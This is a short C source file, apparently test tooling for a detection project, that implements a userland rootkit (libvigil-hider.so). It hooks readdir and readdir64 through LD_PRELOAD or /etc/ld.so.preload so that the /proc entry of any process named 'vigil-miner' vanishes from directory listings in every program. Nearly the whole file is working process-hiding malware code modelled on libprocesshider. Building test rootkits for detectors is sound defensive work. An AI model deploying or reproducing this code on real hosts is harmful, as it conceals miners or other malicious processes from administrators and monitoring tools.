/*
 * hider: the tests' userland rootkit, built as libvigil-hider.so. Like
 * libprocesshider, it wraps readdir and readdir64 and drops the /proc entry
 * of every process named VIGIL_HIDDEN_NAME, in every program that loads it
 * (through /etc/ld.so.preload or LD_PRELOAD). Anything else passes through,
 * so that the host it is installed on for a test keeps working.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define VIGIL_HIDDEN_NAME "vigil-miner"

static int in_proc(DIR *d)
{
	char link[64], path[256];
	snprintf(link, sizeof(link), "/proc/self/fd/%d", dirfd(d));
	ssize_t n = readlink(link, path, sizeof(path) - 1);
	if (n < 0)
		return 0;
	path[n] = 0;
	return strcmp(path, "/proc") == 0;
}

static int hidden(const char *pid)
{
	char file[64], comm[32];
	if (pid[0] < '0' || pid[0] > '9')
		return 0;
	snprintf(file, sizeof(file), "/proc/%s/comm", pid);
	FILE *f = fopen(file, "r");
	if (!f)
		return 0;
	int same = fgets(comm, sizeof(comm), f) && strncmp(comm, VIGIL_HIDDEN_NAME, strlen(VIGIL_HIDDEN_NAME)) == 0;
	fclose(f);
	return same;
}

#define WRAP(name, type)                                                   \
	type *name(DIR *d)                                                     \
	{                                                                      \
		static type *(*next)(DIR *);                                       \
		if (!next)                                                         \
			next = (type * (*)(DIR *)) dlsym(RTLD_NEXT, #name);            \
		type *e;                                                           \
		do                                                                 \
			e = next(d);                                                   \
		while (e && in_proc(d) && hidden(e->d_name));                      \
		return e;                                                          \
	}

WRAP(readdir, struct dirent)
WRAP(readdir64, struct dirent64)
